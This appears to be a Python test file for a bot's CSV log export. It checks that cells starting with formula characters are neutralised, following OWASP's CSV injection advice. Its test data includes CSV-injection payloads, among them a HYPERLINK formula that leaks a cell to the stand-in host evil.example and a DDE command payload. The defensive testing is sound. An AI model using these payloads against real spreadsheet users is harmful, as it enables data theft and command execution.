"""The log as CSV: no cell a spreadsheet would run as a formula (OWASP's CSV injection advice)."""

import csv
import io
import json
import os
import subprocess
import sys

from bot.export import interactions_csv
from bot.store import GLOBAL_SCOPE, LoggedAnswer
from tests.bot.test_cli import VERBATIM, run

# Questions as a member could type them; some only reach the log through the store (asking
# strips the surrounding space), and the CSV must be safe whatever the log holds.
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1, "Click for the answer")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\rhello",
    "\tjust a tab first",
    "  =1+1",
    "\u00a0@SUM(1)",
    "\n-1",
]
PLAIN = ["how many forces?", "what does a = b mean?", "is 2+2 four?", "'quoted already"]


async def log_questions(store, questions):
    for question in questions:
        await store.log_interaction(
            scope=GLOBAL_SCOPE,
            via="cli",
            question=question,
            latency_ms=1.0,
            answers=[LoggedAnswer(sentence_id=1, document_id=1, position=3, score=-1.5)],
        )


def questions_of(text):
    return [row["question"] for row in csv.DictReader(io.StringIO(text, newline=""))]


async def test_cells_that_start_a_formula_are_text_and_others_are_untouched(store):
    await log_questions(store, FORMULAS + PLAIN)
    rows = list(reversed(await store.interactions(GLOBAL_SCOPE, limit=100)))

    cells = questions_of(interactions_csv(rows))

    assert cells == ["'" + q for q in FORMULAS] + PLAIN
    # Nothing else changes: numbers stay numbers, the answers stay JSON (a negative score inside
    # it is not at the start of its cell).
    parsed = list(csv.DictReader(io.StringIO(interactions_csv(rows), newline="")))
    assert json.loads(parsed[0]["answers"])[0]["score"] == -1.5
    assert parsed[0]["latency_ms"] == "1.0"


async def test_verbatim_log_csv_is_safe_and_jsonl_keeps_the_text(db_path, store):
    await log_questions(store, FORMULAS + PLAIN)

    # Read as bytes: text mode would turn the CR inside a quoted cell into a newline.
    command = [VERBATIM] if VERBATIM else [sys.executable, "-m", "bot"]
    done = subprocess.run(
        [*command, "--db", str(db_path), "log", "--format", "csv", "--limit", "100"],
        capture_output=True,
        env={k: v for k, v in os.environ.items() if k != "VERBATIM_CONFIG"},
        check=True,
        timeout=120,
    )
    out = done.stdout.decode("utf-8")

    assert questions_of(out) == [
        "'" + q if q in FORMULAS else q for q in reversed(FORMULAS + PLAIN)
    ]
    lines = run(db_path, "log", "--format", "jsonl", "--limit", "100").stdout.splitlines()
    assert [json.loads(line)["question"] for line in lines] == list(reversed(FORMULAS + PLAIN))
